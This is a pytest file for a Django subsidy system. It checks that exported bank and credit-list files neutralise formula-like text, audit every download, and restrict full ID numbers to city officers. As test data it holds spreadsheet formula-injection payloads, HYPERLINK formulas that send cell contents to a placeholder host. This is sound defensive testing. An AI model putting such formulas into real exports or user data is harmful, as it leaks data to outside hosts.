"""Issue 13, exports: the bank file (CSV and XLSX) and the credit list (CSV) write formula-like text as
text (``dte.core.spreadsheet``); the credit list with full ID numbers is the city's only [A2.7a];
every download of either is recorded in the audit log (who, when, which file, how many rows)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from openpyxl import load_workbook

from dte.audit.models import AuditEntry
from dte.catalog.models import County
from dte.people.models import Person
from dte.subsidy import services
from dte.subsidy.models import Claim
from tests.subsidy.conftest import ACCOUNT, SUBMIT_AT

LUCHENG = "330302"
LINK = '=HYPERLINK("http://x/?"&A1,"点击")'
DOWNLOAD_AT = datetime(2025, 3, 26, 2, tzinfo=UTC)


@pytest.fixture
def payable(eligible_trainee, make_claim, county_reviewer, county_approver):
    """A payable claim whose designated bank is named with a formula, as the claimant typed it."""
    claim = make_claim(eligible_trainee, submit=False)
    services.claim_update(
        actor=eligible_trainee,
        claim=claim,
        bank_kind="designated",
        bank_account=ACCOUNT,
        bank_name=LINK,
        at=SUBMIT_AT,
    )
    claim = services.claim_submit(actor=eligible_trainee, claim=claim, at=SUBMIT_AT)
    services.review_pass(actor=county_reviewer, claim=claim, at=SUBMIT_AT)
    services.claim_approve(actor=county_approver, claim=claim, at=SUBMIT_AT)
    services.notices_expire(at=datetime(2025, 3, 24, 2, tzinfo=UTC))
    return Claim.objects.get(pk=claim.pk)


@pytest.fixture
def batch(payable, county_approver):
    county = County.objects.get(code=LUCHENG)
    services.fund_budget(actor=county_approver, county=county, year=2025, amount=10000, at=SUBMIT_AT)
    # A name as it may stand in the person records (imported or older data; registration refuses it).
    Person.objects.filter(pk=payable.person_id).update(name="-2+3")
    return services.batch_create(
        actor=county_approver, county=county, at=datetime(2025, 3, 25, 2, tzinfo=UTC)
    )


def test_the_bank_csv_writes_a_formula_bank_name_and_name_as_text(batch, county_approver):
    content = services.bank_file(actor=county_approver, batch=batch, fmt="csv", at=DOWNLOAD_AT)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][2] == "'-2+3" and rows[1][4] == "'" + LINK
    assert rows[1][5] == ACCOUNT and rows[1][6] == "3300"  # numbers and the account unchanged


def test_the_bank_xlsx_stores_a_formula_bank_name_and_name_as_quoted_text(batch, county_approver):
    content = services.bank_file(actor=county_approver, batch=batch, fmt="xlsx", at=DOWNLOAD_AT)
    ws = load_workbook(io.BytesIO(content)).active
    for col, text in ((3, "-2+3"), (5, LINK)):
        cell = ws.cell(2, col)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert ws.cell(2, 6).value == ACCOUNT and ws.cell(2, 7).value == 3300


def test_every_bank_file_download_is_audited_with_the_file_and_its_rows(batch, county_approver):
    services.bank_file(actor=county_approver, batch=batch, fmt="xlsx", at=DOWNLOAD_AT)
    entry = AuditEntry.objects.get(action="payment.bank_file")
    assert (entry.actor_id, entry.at, entry.object_id) == (county_approver.pk, DOWNLOAD_AT, str(batch.pk))
    assert entry.changes == {"format": "xlsx", "file": f"{batch.reference}.xlsx", "lines": 1}


def test_a_bank_file_in_another_format_is_refused_and_not_audited(batch, county_approver):
    with pytest.raises(ValidationError, match="csv 或 xlsx"):
        services.bank_file(actor=county_approver, batch=batch, fmt="html", at=DOWNLOAD_AT)
    assert not AuditEntry.objects.filter(action="payment.bank_file").exists()


@pytest.fixture
def credit_entry(payable, county_approver):
    return services.credit_entry_create(
        actor=county_approver,
        claim=payable,
        kind="fraud",
        facts='=HYPERLINK("http://x/?"&B2,"详情")',
        decided_on=date(2025, 5, 6),
        at=datetime(2025, 5, 6, 2, tzinfo=UTC),
    )


def test_the_credit_csv_writes_formula_facts_as_text_beside_the_full_id_number(credit_entry, city_officer):
    content = services.credit_export(actor=city_officer, fmt="csv", at=DOWNLOAD_AT)
    assert content.startswith("\ufeff".encode())
    row = next(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert row["facts"] == "'" + credit_entry.facts
    assert row["id_number"] == credit_entry.person.id_number  # the city's file: full identity


def test_the_credit_json_keeps_the_values_exactly(credit_entry, city_officer):
    rows = json.loads(services.credit_export(actor=city_officer, fmt="json", at=DOWNLOAD_AT))
    assert rows[0]["facts"] == credit_entry.facts


def test_every_credit_list_download_is_audited_with_the_file_and_its_rows(credit_entry, city_officer):
    services.credit_export(actor=city_officer, fmt="csv", at=DOWNLOAD_AT)
    services.credit_export(actor=city_officer, fmt="json", at=DOWNLOAD_AT)
    entries = AuditEntry.objects.filter(action="credit.export").order_by("id")
    assert [e.changes for e in entries] == [
        {"format": "csv", "file": "credit-list.csv", "entries": 1},
        {"format": "json", "file": "credit-list.json", "entries": 1},
    ]
    assert {(e.actor_id, e.at) for e in entries} == {(city_officer.pk, DOWNLOAD_AT)}


@pytest.mark.parametrize("persona", ["county_approver", "county_reviewer", "auditor"], indirect=True)
def test_the_credit_list_with_full_id_numbers_is_the_citys_only(credit_entry, persona, client_as):
    for fmt in ("csv", "json"):
        with pytest.raises(PermissionDenied):
            services.credit_export(actor=persona, fmt=fmt, at=DOWNLOAD_AT)
        assert client_as(persona).get(f"/subsidy/city/credit.{fmt}").status_code == 403
    assert not AuditEntry.objects.filter(action="credit.export").exists()


def test_the_city_downloads_the_credit_list_from_its_page(credit_entry, city_officer, client_as, freeze):
    freeze(DOWNLOAD_AT)
    resp = client_as(city_officer).get("/subsidy/city/credit.csv")
    assert resp.status_code == 200 and resp["Content-Disposition"] == 'attachment; filename="credit-list.csv"'
    assert client_as(city_officer).get("/subsidy/city/credit.xml").status_code == 404
    assert AuditEntry.objects.filter(action="credit.export").count() == 1
